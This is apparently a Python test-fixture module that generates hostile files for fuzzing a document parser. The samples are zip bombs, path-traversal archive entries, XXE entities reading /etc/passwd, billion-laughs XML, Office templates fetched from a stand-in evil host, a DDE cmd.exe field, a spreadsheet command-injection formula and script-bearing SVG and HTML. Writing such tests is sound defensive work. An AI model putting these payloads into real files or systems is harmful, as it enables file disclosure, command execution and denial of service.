"""Two hundred hostile files, the same each time: bombs, cut and damaged files, disguises, programs, endless structures."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.review.hostile_pdfs import pdfs
from tests.review.makers import (
    OOXML,
    PLAIN,
    bomb_zip,
    deflated,
    document,
    image,
    mail,
    package,
    pdf_of,
    workbook,
    zip_of,
)

Case = tuple[str, str, bytes]
SEED = 20261126
MUTANTS = 12
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">%s]><x>&a;</x>'
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))


def bombs() -> Iterator[Case]:
    """Zip bombs: deep, wide, overlapping, lying about their sizes."""
    for size in (60, 120):
        yield f"zip that unpacks to {size} MB", "炸弹.zip", bomb_zip(size)
    yield "docx with a part of 60 MB", "炸弹.docx", _with_bomb("docx")
    yield "xlsx with a part of 60 MB", "炸弹.xlsx", _with_bomb("xlsx")
    nested = zip_of({"a.txt": PLAIN})
    for depth in range(1, 5):
        nested = zip_of({f"{depth}.zip": nested})
        yield f"zip in a zip, {depth} deep", "套.zip", nested
    yield "zip of 300 files", "多.zip", zip_of({f"{n}.txt": PLAIN for n in range(300)})
    yield "zip of 6000 entries", "更多.zip", zip_of({f"{n}.txt": b"x" for n in range(6000)})
    yield (
        "table of contents without end",
        "目录.zip",
        b"PK\x03\x04" + b"PK\x01\x02" + (b"\0" * 42 + b"PK\x01\x02") * 60_000,
    )
    one = zip_of({"a.txt": b"A" * 2_000_000})
    yield "overlapping entries", "重叠.zip", _overlapping(one)
    lie = bytearray(zip_of({"a.txt": b"A" * 5000}))
    at = lie.rfind(b"PK\x01\x02")
    lie[at + 24 : at + 28] = struct.pack("<I", 10)
    yield "entry that lies about its size", "谎.zip", bytes(lie)
    yield "gzip called zip", "a.zip", b"\x1f\x8b\x08\0" + deflated(1 << 20)
    for name in ("../a.txt", "/etc/a.txt", "C:\\a.txt", "..\\..\\a.txt", "a/../../b.txt", "a\x01.txt"):
        yield f"path {name!r}", "路径.zip", zip_of({name: PLAIN})
    yield "symbolic link", "链接.zip", _link()
    yield "zip with a password", "密.zip", _locked(zip_of({"a.txt": PLAIN}))
    yield "program in a zip", "包.zip", zip_of({"setup.exe": b"MZ" + bytes(range(256)) * 8})
    yield "two files of one name", "重名.zip", _twice()


def _with_bomb(kind: str) -> bytes:
    out = io.BytesIO(package(kind))
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("media/a.xml", "w") as inside,
    ):
        for _ in range(60):
            inside.write(b" " * (1 << 20))
    return out.getvalue()


def _overlapping(one: bytes) -> bytes:
    """Return a zip whose table of contents names the same data fifty times."""
    at = one.rfind(b"PK\x01\x02")
    end = one.rfind(b"PK\x05\x06")
    entry, body = one[at:end], one[:at]
    names = b"".join(entry[:46] + b"%05d" % n + entry[51:] for n in range(50))
    tail = bytearray(one[end:])
    tail[8:10] = tail[10:12] = struct.pack("<H", 50)
    tail[12:16], tail[16:20] = struct.pack("<I", len(names)), struct.pack("<I", at)
    return body + names + bytes(tail)


def _link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _locked(content: bytes) -> bytes:
    made = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        made[at + offset] |= 1
    return bytes(made)


def _twice() -> bytes:
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("a.txt", "one")
        archive.writestr("a.txt", "two")
    return out.getvalue()


def packages() -> Iterator[Case]:
    """Office files with entities, macros, things fetched from elsewhere, and what only looks like one."""
    rel = b'<Relationships><Relationship Id="r" Type="http://x/%s" Target="http://evil.example/a" TargetMode="External"/></Relationships>'
    for kind in ("docx", "xlsx", "pptx"):
        yield f"{kind} with an entity", f"实体.{kind}", package(kind, x_xml=DTD % b"")
        yield (
            f"{kind} with a billion laughs",
            f"笑.{kind}",
            package(kind, x_xml=DTD % (b'<!ENTITY l0 "ha">' + LAUGHS)),
        )
        yield (
            f"{kind} with an entity in UTF-16",
            f"十六.{kind}",
            package(kind, x_xml=(DTD % b"").decode().encode("utf-16")),
        )
        yield (
            f"{kind} with macros",
            f"宏.{kind}",
            package(kind, **{OOXML[kind][0].split("/")[0] + "__vbaProject_bin": b"\xd0\xcf\x11\xe0"}),
        )
        yield (
            f"{kind} with an outside picture",
            f"图.{kind}",
            package(kind, word___rels__a_rels=rel % b"image"),
        )
        yield (
            f"{kind} with an outside template",
            f"模.{kind}",
            package(kind, word___rels__a_rels=rel % b"attachedTemplate"),
        )
        yield (
            f"{kind} with a link to click",
            f"链.{kind}",
            package(kind, word___rels__a_rels=rel % b"hyperlink"),
        )
        yield f"{kind} with a control", f"控.{kind}", package(kind, word__activeX__a_xml=b"<a/>")
        yield f"{kind} with a path that climbs", f"径.{kind}", _climbing(kind)
    yield "docx with DDE", "动.docx", package("docx", word__footer1_xml=b"<w:t>DDEAUTO c:\\cmd.exe</w:t>")
    yield "xlsx with outside links", "外.xlsx", package("xlsx", xl__externalLinks__a_xml=b"<a/>")
    yield "xlsx with a connection", "连.xlsx", package("xlsx", xl__connections_xml=b"<a/>")
    yield "xlsx of nothing seen", "隐.xlsx", workbook(_hide)
    yield (
        "xlsx of a million cells",
        "大.xlsx",
        workbook(lambda book: setattr(book.active["ZZ60000"], "value", 1)),
    )
    yield (
        "xlsx with formulas and text like them",
        "式.xlsx",
        workbook(lambda book: book.active.append(["=cmd|' /C calc'!A0", "@SUM(1)"])),
    )
    yield "docx of a book of XML", "深.docx", package("docx", word__header1_xml=b"<a>" * 50_000)
    yield "docx without a body", "无.docx", zip_of({"[Content_Types].xml": b"<T/>", "word/document.xml": b""})
    yield "package of no kind", "怪.docx", zip_of({"[Content_Types].xml": b"<T/>", "a/b.xml": b"<x/>"})
    yield "old binary", "旧.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
    yield (
        "odt with scripts",
        "本.odt",
        zip_of(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "Basic/a.xml": b"<x/>",
                "content.xml": b"<x/>",
            }
        ),
    )
    yield (
        "ods",
        "表.ods",
        zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
    )


def _hide(book: object) -> None:
    book.create_sheet("空")  # type: ignore[attr-defined]
    book.worksheets[0].sheet_state = "hidden"  # type: ignore[attr-defined]


def _climbing(kind: str) -> bytes:
    out = io.BytesIO(package(kind))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("../../../tmp/a.xml", b"<a/>")
    return out.getvalue()


def others() -> Iterator[Case]:
    """Pictures, mails, web pages and plain bytes."""
    yield "png of a billion pixels", "亿.png", _huge_png(40_000, 40_000)
    yield "png of 2^31 pixels a side", "巨.png", _huge_png(2**31 - 1, 2**31 - 1)
    yield (
        "tiff whose pages go in a ring",
        "环.tiff",
        b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 3, 1, 1) + struct.pack("<I", 8),
    )
    yield "jpeg cut in half", "半.jpg", image("JPEG", (900, 700))[:1500]
    yield "png cut in half", "半.png", image()[:70]
    yield "gif", "动.gif", b"GIF89a" + b"\0" * 100
    yield (
        "svg with a script",
        "画.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    )
    yield "a program", "a.exe", b"MZ" + bytes(range(256)) * 10
    yield "an ELF", "a", b"\x7fELF" + bytes(range(256)) * 10
    yield "nothing", "空.txt", b""
    yield "zeros", "零.txt", b"\0" * 5000
    yield "random bytes", "乱.bin", random.Random(SEED).randbytes(9000)
    yield "four million characters", "长.txt", "字".encode() * 4_000_000
    yield "one line of a million", "行.txt", b"x" * 1_000_000
    yield "characters nobody has", "怪.txt", ("\U000e0041\u202e\ufeff\u0301" * 500 + "文").encode()
    yield "html a hundred thousand deep", "深.html", b"<html>" + b"<div>" * 100_000 + "内容".encode()
    yield (
        "html with scripts and frames",
        "脚.html",
        b"<html><script>alert(1)</script><iframe src=http://e.example></iframe><p>ok</p></html>",
    )
    yield (
        "html with entities",
        "实.html",
        b"<!DOCTYPE html [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><html>&a;</html>",
    )
    yield "mail with a program", "信.eml", mail()
    nested = b"hello"
    for n in range(120):
        nested = b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n%s\r\n--b%d--\r\n' % (
            n,
            n,
            nested,
            n,
        )
    yield (
        "mail a hundred and twenty deep",
        "深.eml",
        b"From: a@b.c\r\nSubject: x\r\nMIME-Version: 1.0\r\n" + nested,
    )
    parts = b"".join(b"--B\r\nContent-Type: text/plain\r\n\r\n%d\r\n" % n for n in range(900))
    yield (
        "mail of nine hundred parts",
        "多.eml",
        b'From: a@b.c\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="B"\r\n\r\n'
        + parts,
    )
    yield (
        "mail in no known letters",
        "码.eml",
        b"From: a@b.c\r\nSubject: =?nope?q?x?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=nope\r\n\r\n\xff\xfe",
    )
    yield "pdf that is a zip", "双.pdf", pdf_of("a") + zip_of({"a.txt": PLAIN})
    yield "png that is a zip", "双.png", image() + zip_of({"a.txt": PLAIN})
    yield "jpeg that is a zip", "双.jpg", image("JPEG") + zip_of({"a.txt": PLAIN})
    yield "text that is a pdf", "双.txt", b"hello\n" + pdf_of("a")
    yield (
        "pdf that is a page of the web",
        "双.html",
        b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + pdf_of("a")[9:],
    )
    yield "zip that is a pdf", "双.zip", zip_of({"%PDF-1.4": pdf_of("a")})
    yield "docx called pdf", "名.pdf", document()
    yield "pdf called docx", "名.docx", pdf_of("a")


def _huge_png(wide: int, tall: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", wide & 0xFFFFFFFF, tall & 0xFFFFFFFF, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", deflated(8 << 20)) + chunk(b"IEND", b"")
    )


def mutants() -> Iterator[Case]:
    """Good files of every kind, broken by chance with a fixed seed: cut, flipped, doubled, with bytes put in."""
    chance = random.Random(SEED)
    good = {
        "pdf": pdf_of("alpha", "beta", "gamma"), "docx": document(), "xlsx": workbook(), "png": image(), "jpg": image("JPEG"),
        "tiff": image("TIFF"), "eml": mail(), "zip": zip_of({"a.txt": PLAIN, "b.pdf": pdf_of("a")}),
    }  # fmt: skip
    for kind, content in good.items():
        for n in range(MUTANTS):
            yield f"{kind} mutant {n}", f"变.{kind}", _mutated(content, chance)


def _mutated(content: bytes, chance: random.Random) -> bytes:
    made = bytearray(content)
    for _ in range(chance.randint(1, 8)):
        at = chance.randrange(len(made))
        match chance.randrange(5):
            case 0:
                made[at] ^= 1 << chance.randrange(8)
            case 1:
                del made[at : at + chance.randint(1, 400)]
            case 2:
                made[at:at] = chance.randbytes(chance.randint(1, 200))
            case 3:
                made[at:at] = made[at : at + chance.randint(1, 600)]
            case _:
                made = made[: max(at, 12)]
        if len(made) < 12:
            made += content[:12]
    return bytes(made)


def every() -> list[Case]:
    """Return all of them, in an order that never changes."""
    return [*bombs(), *pdfs(), *packages(), *others(), *mutants()]
